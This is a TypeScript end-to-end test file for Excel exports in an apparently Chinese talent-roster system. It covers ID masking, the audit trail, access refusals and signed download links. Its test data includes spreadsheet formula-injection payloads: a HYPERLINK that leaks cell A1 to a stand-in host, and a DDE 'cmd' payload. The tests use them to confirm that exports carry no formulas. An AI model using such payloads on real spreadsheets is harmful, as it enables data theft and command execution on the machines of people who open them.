/**
 * Excel exports end to end (issue #13 parts 1 and 5), through HTTP only, on the embedded
 * default: the local gateway hands POST /exports to the exports Lambda (its own function in
 * the template), which writes the workbook under exports/ in the local bucket and answers a
 * presigned GET; the download goes through the verifying S3 front. Every export opens in
 * ExcelJS, reads Chinese, carries no formula and no unmasked ID unless the bureau asked —
 * and that request is in the audit trail with who and when.
 */
import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { registerUnits, fixtureForm, jsonBytes, refusal, startE2eSystem, type E2eSystem, type Json, type PoolClient } from './support';

const START = '2026-11-02T09:00:00+08:00';
const ROUND = '2026-EXP';
const INTAKE_CLOSES = '2026-11-12T17:00:00+08:00';
const SCORING_CLOSES = '2026-11-13T17:00:00+08:00';
const HOSTILE_POST = '=HYPERLINK("http://x.example/?"&A1,"点我")';
const HOSTILE_NOTES = '@SUM(A1)';
const HOSTILE_TITLE = '+cmd|\' /C calc\'!A0';

const FORMS = [
  { unit: 'JT-XYXX', fixture: 'tier3-route-a-eligible.json' },
  { unit: 'JT-JTZX', fixture: 'tier1-eligible.json' },
  { unit: 'JT-JYJ-RSK', fixture: 'tier2-bureau-office.json' },
];

let sys: E2eSystem;
let bureau: PoolClient;
let approver: PoolClient;
let xyxx: PoolClient;
const ids = new Map<string, string>();

async function open(bytes: Uint8Array): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer);
  return wb;
}

/** Every cell of every sheet as text, and whether any cell holds a formula. */
function cellsOf(wb: ExcelJS.Workbook): { texts: string[]; formulas: number } {
  const texts: string[] = [];
  let formulas = 0;
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => {
    if (cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined) formulas++;
    texts.push(cell.value instanceof Date ? cell.value.toISOString() : String(cell.value));
  })));
  return { texts, formulas };
}

async function exported(client: PoolClient, body: Json) {
  const link = await client.exportLink(body);
  const file = await client.download(link.url);
  const wb = await open(file.bytes);
  return { link, file, wb, ...cellsOf(wb) };
}

beforeAll(async () => {
  sys = await startE2eSystem(START);
  bureau = await sys.control.client('bureau');
  approver = await sys.control.client('approver');
  xyxx = await sys.control.client('school', 'JT-XYXX');
  // The registry knows every unit as its own form names it.
  await registerUnits(bureau, FORMS.map((f) => {
    const { unit } = fixtureForm(f.fixture, { roundId: ROUND }) as { unit: { code: string; name: string; type: string } };
    return { ...unit, code: f.unit };
  }));
  await bureau.openRound({
    roundId: ROUND, title: '导出测试批次', referenceDate: '2026-12-01', intakeClosesAt: INTAKE_CLOSES, scoringClosesAt: SCORING_CLOSES,
    tiers: [1, 2, 3], orgDeptApproval: { ref: '坛组干〔2026〕12 号', date: '2026-10-28' },
    scoringModel: { components: [{ id: 'honour', name: { zh: '学术称号', en: 'honour' }, weight: 1, min: 0, max: 8, source: 'form', derive: 'honour' }] },
  });
  for (const f of FORMS) {
    const form = fixtureForm(f.fixture, { roundId: ROUND }) as Json & { candidate: { idNumber: string; posts: Array<{ title: string }> } };
    ids.set(f.unit, form.candidate.idNumber);
    // A post title a spreadsheet would execute, stored verbatim as accepted forms store it.
    if (f.unit === 'JT-XYXX') form.candidate.posts[0]!.title = HOSTILE_POST;
    const client = await sys.control.client('school', f.unit);
    await client.upload(ROUND, `${f.unit}.json`, jsonBytes(form));
  }
  await sys.control.advance({ hours: 1 });
  await sys.control.settle();
  await sys.control.advance({ to: new Date(Date.parse(INTAKE_CLOSES) + 3_600_000).toISOString() });
  await sys.control.settle();
  await sys.control.advance({ to: new Date(Date.parse(SCORING_CLOSES) + 3_600_000).toISOString() });
  await sys.control.settle();
  await approver.decide(ROUND, { decision: 'approve' });
  await sys.control.settle();
  const pool = await bureau.pool() as { members: Array<{ personId: string; unit: string }> };
  const member = pool.members.find((m) => m.unit === 'JT-XYXX');
  if (!member) throw new Error(`JT-XYXX's candidate was not admitted: ${JSON.stringify(pool).slice(0, 400)}`);
  await sys.control.advance({ to: '2026-11-25T09:00:00+08:00' });
  await bureau.record(member.personId, 'talks', { on: '2026-11-20', by: '区教育局组织科', notes: HOSTILE_NOTES });
  await bureau.record(member.personId, 'training', { kind: 'course', title: HOSTILE_TITLE, provider: '常州市教育局', hours: 16, from: '2026-11-21', to: '2026-11-22' });
}, 180_000);

afterAll(async () => {
  await sys?.close();
});

describe('POST /exports on the embedded default', () => {
  it('the roster: a presigned download with a Chinese file name, masked IDs, frozen headers, filters, dates as dates', async () => {
    const { link, file, wb, texts, formulas } = await exported(bureau, { kind: 'roster' });
    expect(link.url).toMatch(/X-Amz-Signature=/);
    expect(link.url).toMatch(/\/exports%2F|\/exports\//);
    expect(Date.parse(link.expiresAt) - Date.now()).toBeLessThanOrEqual(300_000);
    expect(link.fileName).toMatch(/^后备人才名册_\d{4}-\d{2}-\d{2}\.xlsx$/);
    expect(file.fileName).toBe(link.fileName);
    expect(file.contentType).toMatch(/spreadsheetml/);
    expect(link.rows).toBe(3);
    const ws = wb.worksheets[0]!;
    expect(ws.getRow(1).values).toContain('身份证号');
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.autoFilter).toMatch(/^A1:[A-Z]+4$/);
    const idCol = (ws.getRow(1).values as unknown[]).indexOf('身份证号');
    const shown = [2, 3, 4].map((r) => String(ws.getRow(r).getCell(idCol).value));
    for (const id of ids.values()) expect(shown).toContain(`${id.slice(0, 6)}********${id.slice(-4)}`);
    for (const id of ids.values()) expect(texts.join('|')).not.toContain(id);
    const startCol = (ws.getRow(1).values as unknown[]).indexOf('入库日期');
    expect(ws.getRow(2).getCell(startCol).value).toBeInstanceOf(Date);
    expect(formulas).toBe(0);
    expect(texts).toContain(HOSTILE_POST);
  });

  it('full ID numbers for the bureau only, and the audit says who asked and when', async () => {
    const { link, texts } = await exported(bureau, { kind: 'roster', fullIds: true, columns: ['name', 'idNumber', 'unit'] });
    expect(link.fullIds).toBe(true);
    for (const id of ids.values()) expect(texts).toContain(id);
    const trail = await bureau.audit('export/roster') as { entries: Array<{ action: string; actor: string; at: string; details: Json }> };
    const asked = trail.entries.filter((e) => e.action === 'export.full-ids-requested');
    expect(asked).toHaveLength(1);
    expect(asked[0]).toMatchObject({ actor: expect.stringMatching(/^user:/), details: { kind: 'roster', fullIds: true } });
    expect(Date.parse(asked[0]!.at)).not.toBeNaN();
    expect(JSON.stringify(trail)).not.toMatch(/\d{17}[\dX]/);

    const school = await refusal(() => xyxx.exportLink({ kind: 'roster', fullIds: true }));
    expect([school.status, school.body?.error.code]).toEqual([403, 'EXPORT_FULL_IDS_BUREAU_ONLY']);
  });

  it('a school exports its own unit only: another unit is a coded refusal', async () => {
    const own = await exported(xyxx, { kind: 'intake', roundId: ROUND });
    expect(own.link.rows).toBe(1);
    expect(own.link.fileName).toContain('JT-XYXX');
    expect(own.texts).not.toContain('JT-JTZX');
    const other = await refusal(() => xyxx.exportLink({ kind: 'intake', roundId: ROUND, unit: 'JT-JTZX' }));
    expect([other.status, other.body?.error.code]).toEqual([403, 'EXPORT_OTHER_UNIT']);
    const notHers = await refusal(() => xyxx.exportLink({ kind: 'shortlist', roundId: ROUND }));
    expect([notHers.status, notHers.body?.error.code]).toEqual([403, 'EXPORT_FORBIDDEN']);
  });

  it('every kind comes out, opens, reads Chinese and carries no formula', async () => {
    const bodies: Json[] = [
      { kind: 'intake', roundId: ROUND },
      { kind: 'shortlist', roundId: ROUND },
      { kind: 'publicity', roundId: ROUND },
      { kind: 'talks', asOf: '2026-12-01' },
      { kind: 'development' },
      { kind: 'x-use', from: '2026-01-01', to: '2026-12-31' },
    ];
    for (const body of bodies) {
      const { link, wb, texts, formulas } = await exported(bureau, body);
      expect(wb.worksheets.length, String(body.kind)).toBeGreaterThan(0);
      expect(formulas, String(body.kind)).toBe(0);
      expect(wb.worksheets[0]!.getRow(1).values, String(body.kind)).toEqual(expect.arrayContaining([expect.stringMatching(/[\u4e00-\u9fff]/)]));
      expect(link.fileName, String(body.kind)).toMatch(/[\u4e00-\u9fff].*\.xlsx$/);
      for (const id of ids.values()) expect(texts.join('|'), String(body.kind)).not.toContain(id);
    }
    const talks = await exported(bureau, { kind: 'talks', asOf: '2026-12-01' });
    expect(talks.wb.worksheets.map((w) => w.name)).toEqual(['应谈（截至2026-12-01）', '已谈']);
    expect(talks.texts).toContain(HOSTILE_NOTES);
    const dev = await exported(bureau, { kind: 'development' });
    expect(dev.texts).toContain(HOSTILE_TITLE);
    const sheet = strFromU8(unzipSync((await bureau.download((await bureau.exportLink({ kind: 'development' })).url)).bytes)['xl/worksheets/sheet1.xml']!);
    expect(sheet).not.toMatch(/<f[ >]/);
  });

  it('the 公示 list: name, gender, birth month, unit and post, tier — never an ID number, even when asked', async () => {
    const { wb } = await exported(bureau, { kind: 'publicity', roundId: ROUND });
    expect(wb.worksheets[0]!.getRow(1).values).toEqual([undefined, '序号', '姓名', '性别', '出生年月', '单位及职务', '拟入库梯队']);
    expect(wb.worksheets[0]!.rowCount).toBe(4);
    const refused = await refusal(() => bureau.exportLink({ kind: 'publicity', roundId: ROUND, fullIds: true }));
    expect([refused.status, refused.body?.error.code]).toEqual([422, 'EXPORT_NO_ID_NUMBERS']);
  });

  it('bad requests get codes and field paths', async () => {
    const noRound = await refusal(() => bureau.exportLink({ kind: 'intake' }));
    expect(noRound.body?.error.problems?.map((p) => [p.code, p.path])).toEqual([['EXPORT_ROUND_REQUIRED', 'roundId']]);
    const badColumn = await refusal(() => bureau.exportLink({ kind: 'roster', columns: ['name', 'idNo'] }));
    expect(badColumn.body?.error.problems?.map((p) => [p.code, p.path])).toEqual([['EXPORT_COLUMN_UNKNOWN', 'columns.1']]);
    const badKind = await refusal(() => bureau.exportLink({ kind: 'everything' }));
    expect(badKind.status).toBe(400);
    expect(badKind.body?.error.problems?.[0]?.path).toBe('kind');
    const noToken = await fetch(`${sys.apiUrl}/exports`, { method: 'POST', body: '{}' });
    expect(noToken.status).toBe(401);
  });

  it('the link is the permission: tampered or unsigned, the local S3 refuses it', async () => {
    const { url } = await bureau.exportLink({ kind: 'development' });
    const u = new URL(url);
    const unsigned = `${u.origin}${u.pathname}`;
    expect((await fetch(unsigned)).status).toBe(403);
    u.searchParams.set('response-content-type', 'text/html');
    expect((await fetch(u)).status).toBe(403);
  });
});
